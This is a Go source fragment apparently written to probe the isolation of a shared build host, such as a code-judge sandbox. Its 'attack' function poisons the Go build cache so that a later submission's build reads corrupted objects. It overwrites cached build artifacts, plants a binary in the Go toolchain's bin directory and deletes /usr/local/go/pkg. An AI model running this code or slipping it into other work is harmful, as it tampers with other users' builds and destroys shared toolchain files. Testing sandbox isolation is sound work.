package main

import (
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// Looks for the compiler's cache, which the next submission's build would read,
// writes into it, and has the compiler here write into it.
func attack(where string) {
	if where != "host" {
		return
	}
	for _, dir := range []string{"/cache", "/root/.cache/go-build", "/work/.cache/go-build", "/home", "/var/cache", "/root/go/pkg/mod", "/usr/local/go/pkg", "/usr/local/go/src/fmt", "/usr/lib/go"} {
		tried("write into "+dir, os.WriteFile(dir+"/"+evil, []byte(evil), 0o666))
		filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && strings.HasSuffix(path, "-a") {
				tried("poison "+path, os.WriteFile(path, []byte(evil), 0o666))
			}
			return nil
		})
	}
	os.MkdirAll("/tmp/evil", 0o755)
	os.WriteFile("/tmp/evil/main.go", []byte("package main\n\nfunc main() { println(1) }\n"), 0o644)
	os.WriteFile("/tmp/evil/go.mod", []byte("module evil\n"), 0o644)
	cmd := exec.Command("/usr/local/go/bin/go", "build", "-o", "/usr/local/go/bin/"+evil, ".")
	cmd.Dir, cmd.Env = "/tmp/evil", []string{"HOME=/root", "GOCACHE=/root/.cache/go-build", "GOFLAGS=-mod=mod"}
	tried("build over the cache", cmd.Run())
	tried("make the cache go", os.RemoveAll("/usr/local/go/pkg"))
}
